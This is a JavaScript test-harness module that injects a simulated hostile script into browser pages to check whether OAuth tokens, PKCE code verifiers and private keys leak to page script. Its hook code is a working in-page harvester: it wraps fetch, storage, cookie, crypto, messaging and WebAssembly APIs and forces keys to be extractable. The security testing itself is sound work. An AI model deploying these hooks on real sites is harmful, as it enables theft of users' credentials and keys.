// Hostile script in the page: it hooks what script can hook and looks wherever script can look. All that it lays hands on
// is its loot, a growing list of texts, which is then searched for what the servers know to be secret.

import { createHash } from "node:crypto";

/**
 * An attacker in every page of an origin.
 * @param {import("playwright-core").BrowserContext} context
 * @param {string} origin
 */
export async function openAttacker(context, origin) {
  /** @type {{ where: string, text: string }[]} */
  const loot = [];
  await context.exposeBinding("carryOff", (_source, pieces) => void loot.push(...JSON.parse(pieces)));
  return {
    loot,
    /** Is there from now on before any other script of a page. */
    beEarly: () => context.addInitScript(hook, origin),
    /** Comes to a page that runs. */
    beLate: (page) => page.evaluate(hook, origin),
    /** Looks through all that a page has by now. */
    ransack: (page) => page.evaluate(() => globalThis.ransack()),
    /** Of what kinds of secrets something was found. */
    found: (exchanges) => found(loot, exchanges),
  };
}

/** In the page. */
function hook(origin) {
  if (location.origin !== origin || globalThis.ransack) return;
  const { carryOff } = globalThis;
  const { stringify } = JSON;
  const { apply, construct, ownKeys, getOwnPropertyDescriptor, defineProperty } = Reflect;
  const { subtle } = crypto;
  const { has, add } = Set.prototype;
  const later = setTimeout;
  const { exportKey } = subtle;
  const NativePromise = Promise;
  const then = NativePromise.prototype.then;
  const bodies = [Request.prototype.clone, Response.prototype.clone, Response.prototype.text];
  const latin = (bytes) => {
    let text = "";
    for (let at = 0; at < bytes.length; at += 8192) text += String.fromCharCode.apply(null, bytes.subarray(at, at + 8192));
    return text;
  };
  const octets = (view) => new Uint8Array(view.buffer ?? view, view.byteOffset ?? 0, view.byteLength);
  // By the dozen, and each text once; what goes on in here is not looked at.
  const known = new Set();
  let [pieces, isBusy] = [[], false];
  const quietly = (step) => {
    if (isBusy) return;
    isBusy = true;
    try {
      step();
    } finally {
      isBusy = false;
    }
  };
  const flush = () => {
    const text = apply(stringify, JSON, [pieces]);
    pieces = [];
    return carryOff(text);
  };
  addEventListener("pagehide", () => quietly(flush));
  const tell = (where, text) => {
    if (!text || text.length < 16 && where !== "private key" && where !== "getRandomValues" || apply(has, known, [text])) return;
    apply(add, known, [text]);
    if (!pieces.length) later(() => quietly(flush));
    pieces[pieces.length] = { where, text };
  };

  /** Notes every text in a value, however deep. */
  const note = (where, given) => {
    const seen = new Set();
    const walk = (value, depth) => {
      if (typeof value === "string") return value && tell(where, value);
      if (typeof value !== "object" || value === null || seen.has(value) || depth > 6) return;
      seen.add(value);
      try {
        if (value instanceof ArrayBuffer || ArrayBuffer.isView(value)) return tell(where, latin(octets(value)));
        if (value instanceof CryptoKey) return noteKey(value);
        if (value instanceof URLSearchParams || value instanceof URL) tell(where, String(value));
        if (value instanceof Request || value instanceof Response) noteMessage(where, value);
        if (value instanceof Error) tell(where, `${value.message} ${value.stack}`);
        if (typeof value.entries === "function" && !Array.isArray(value)) for (const pair of value.entries()) walk(pair, depth + 1);
        for (const key of ownKeys(value)) {
          if (typeof key === "string") tell(where, key);
          const own = getOwnPropertyDescriptor(value, key);
          walk(own.get ? own.get.call(value) : own.value, depth + 1);
        }
      } catch {
        // It defends itself.
      }
    };
    quietly(() => walk(given, 0));
  };
  const noteKey = (key) => {
    if (key.type !== "private") return;
    tell("private key", "held");
    apply(then, apply(exportKey, subtle, ["jwk", key]), [({ d }) => tell("private key", d), () => {}]);
  };
  const noteMessage = (where, message) => {
    tell(where, message.url);
    for (const [name, value] of message.headers) tell(where, `${name}: ${value}`);
    if (message.bodyUsed || !message.body) return;
    const copy = apply(bodies[message instanceof Request ? 0 : 1], message, []);
    const text = apply(bodies[2], copy instanceof Request ? new Response(copy.body) : copy, []);
    apply(then, text, [(read) => tell(where, read), () => {}]);
  };

  /** Sees what goes into a function, and what comes out of it now and later. */
  const spy = (holder, name) => {
    const original = holder?.[name];
    if (typeof original !== "function") return;
    const see = (value) => (note(name, value), value);
    const spied = function (...given) {
      note(name, given);
      // A string's own methods: whose they are tells.
      if (typeof this === "string" || this instanceof String) note(name, String(this));
      const outcome = new.target ? construct(original, given, new.target === spied ? original : new.target) : apply(original, this, given);
      if (outcome instanceof NativePromise) apply(then, outcome, [see, see]);
      else note(name, outcome);
      return outcome;
    };
    spied.prototype = original.prototype;
    Object.setPrototypeOf(spied, original);
    defineProperty(holder, name, { value: spied, writable: true, configurable: true });
  };
  const spyAccess = (prototype, name) => {
    const { get, set } = getOwnPropertyDescriptor(prototype, name) ?? {};
    if (!get) return;
    defineProperty(prototype, name, {
      configurable: true,
      get() {
        const value = apply(get, this, []);
        note(name, value);
        return value;
      },
      set(value) {
        note(name, value);
        const heard = typeof value === "function" && name === "onmessage";
        apply(set, this, [heard ? (event) => (note(name, event.data), apply(value, this, [event])) : value]);
      },
    });
  };

  /** The workers that the page has started, for connections of the attacker's own. */
  globalThis.workers = [];
  for (const name of ["SharedWorker", "Worker"]) {
    const Native = globalThis[name];
    if (!Native) continue;
    globalThis[name] = new Proxy(Native, {
      construct(target, [url, options], newTarget) {
        const changed = globalThis.changeWorker?.(options) ?? options;
        const worker = construct(target, [url, changed], newTarget);
        if (changed?.name) globalThis.workers.push({ url, options: changed });
        (worker.port ?? worker).addEventListener("message", ({ data }) => note(name, data));
        return worker;
      },
    });
  }

  const prototypes = {
    MessagePort: ["postMessage", "addEventListener"],
    BroadcastChannel: ["postMessage"],
    EventTarget: ["dispatchEvent"],
    TextEncoder: ["encode", "encodeInto"],
    TextDecoder: ["decode"],
    Headers: ["set", "append"],
    Storage: ["setItem", "getItem"],
    IDBObjectStore: ["put", "add", "get", "getAll"],
    Cache: ["put", "match"],
    History: ["pushState", "replaceState"],
    URLSearchParams: ["get", "set", "append"],
    XMLHttpRequest: ["open", "send", "setRequestHeader"],
    Map: ["get", "set"],
    String: ["startsWith", "concat", "split", "slice"],
    RegExp: ["exec", "test"],
    Array: ["push", "join"],
  };
  for (const body of ["Request", "Response"]) prototypes[body] = ["text", "json", "arrayBuffer"];
  const spyAll = () => {
    for (const name of ["fetch", "Request", "Response", "URL", "btoa", "atob", "open", "structuredClone"]) spy(globalThis, name);
    for (const [holder, names] of Object.entries(prototypes)) for (const name of names) spy(globalThis[holder]?.prototype, name);
    for (const name of ["parse", "stringify"]) spy(JSON, name);
    for (const name of ["debug", "log", "info", "warn", "error"]) spy(console, name);
    for (const name of ["importKey", "exportKey", "sign", "verify", "digest"]) spy(SubtleCrypto.prototype, name);
    spyAccess(MessageEvent.prototype, "data");
    spyAccess(MessagePort.prototype, "onmessage");
    spyAccess(BroadcastChannel.prototype, "onmessage");
    spyAccess(Document.prototype, "cookie");
  };

  // Keys that can be exported; where the engine would refuse them, keys as they are.
  const { generateKey } = SubtleCrypto.prototype;
  SubtleCrypto.prototype.generateKey = async function (algorithm, isExtractable, usages) {
    const pair = await apply(generateKey, this, [algorithm, isExtractable || !!globalThis.exportKeys, usages]);
    note("generateKey", [pair.privateKey]);
    return pair;
  };
  const { getRandomValues } = Crypto.prototype;
  Crypto.prototype.getRandomValues = function (view) {
    apply(getRandomValues, this, [view]);
    quietly(() => tell("getRandomValues", latin(octets(view))));
    return view;
  };
  Promise.prototype.then = function (kept, failed) {
    const see = (step) => (typeof step === "function" ? (value) => (note("then", value), step(value)) : step);
    return apply(then, this, [see(kept), see(failed)]);
  };

  // The memory of every engine of this page.
  const memories = [];
  for (const name of ["instantiate", "instantiateStreaming"]) {
    const original = WebAssembly[name];
    WebAssembly[name] = async (...given) => {
      const made = await apply(original, WebAssembly, given);
      const { exports } = made.instance ?? made;
      memories.push(...Object.values(exports).filter((value) => value instanceof WebAssembly.Memory));
      return made;
    };
  }

  const rows = async (name) => {
    const result = (request) => new NativePromise((resolve) => (request.onsuccess = () => resolve(request.result)));
    const database = await result(indexedDB.open(name));
    const stores = [...database.objectStoreNames];
    for (const store of stores) note("IndexedDB", await result(database.transaction(store).objectStore(store).getAll()));
    database.close();
  };
  globalThis.ransack = async () => {
    for (const { buffer } of memories) tell("memory", latin(new Uint8Array(buffer)));
    note("storage", [{ ...localStorage }, { ...sessionStorage }, document.cookie, window.name, history.state, location.href]);
    note("document", [document.documentElement.outerHTML, performance.getEntries().map(({ name }) => name)]);
    note("globals", [globalThis.client, globalThis.workers, await navigator.locks.query()]);
    for (const { name } of await indexedDB.databases()) await rows(name);
    for (const name of await caches.keys()) {
      const cache = await caches.open(name);
      for (const request of await cache.keys()) note("caches", [request, await cache.match(request)]);
    }
    // What was noted later is told by now.
    await new NativePromise((resolve) => later(resolve, 0));
    await flush();
  };
  spyAll();
}

/** Of a token response. */
const ISSUED = { access_token: "access token", refresh_token: "refresh token" };

/** What must not be in the loot, with its kind. */
function secretsOf(exchanges) {
  const secrets = new Map();
  for (const { server, path, sent, body } of exchanges) {
    if (server !== "as" || path !== "/token" || !body.startsWith("{")) continue;
    const verifier = new URLSearchParams(sent).get("code_verifier");
    if (verifier) secrets.set(verifier, "verifier");
    const answer = JSON.parse(body);
    for (const [name, kind] of Object.entries(ISSUED)) if (answer[name]) secrets.set(answer[name], kind);
  }
  // A JWT by its signature, which no other text has.
  return new Map([...secrets].map(([secret, kind]) => [secret.split(".").at(-1), kind]));
}

/** The challenges of all sign-ins, also of those that nobody has finished. */
const challengesOf = (exchanges) =>
  exchanges.filter(({ server }) => server === "as").flatMap(({ path, sent }) =>
    [path.split("?")[1], sent].map((text) => new URLSearchParams(text ?? "").get("code_challenge")).filter(Boolean),
  );

const s256 = (verifier) => createHash("sha256").update(verifier).digest("base64url");

/** The kinds of secrets in the loot, whatever they are wrapped in. */
function found(loot, exchanges) {
  const text = loot.map((piece) => piece.text).join("\n");
  const all = [text, ...forms(text)].join("\n");
  const kinds = new Set([...secretsOf(exchanges)].filter(([secret]) => all.includes(secret)).map(([, kind]) => kind));
  const challenges = new Set(challengesOf(exchanges));
  // The random octets of a verifier are as good as itself.
  const drawn = loot.filter(({ where }) => where === "getRandomValues").map((piece) => Buffer.from(piece.text, "latin1").toString("base64url"));
  for (const part of [...(all.match(/[\w-]{43}/g) ?? []), ...drawn]) if (challenges.has(s256(part))) kinds.add("verifier");
  if (loot.some(({ where }) => where === "private key")) kinds.add("private key");
  return [...kinds].sort();
}

/** Percent-encoding, base64 and hex, undone. */
function forms(text) {
  const percent = text.replace(/%([0-9a-f]{2})/gi, (_, hex) => String.fromCharCode(parseInt(hex, 16)));
  const unpacked = (pattern, encoding) => (text.match(pattern) ?? []).map((part) => Buffer.from(part, encoding).toString("latin1"));
  return [percent, ...unpacked(/[\w+/-]{24,}/g, "base64"), ...unpacked(/(?:[0-9a-f]{2}){16,}/gi, "hex")];
}
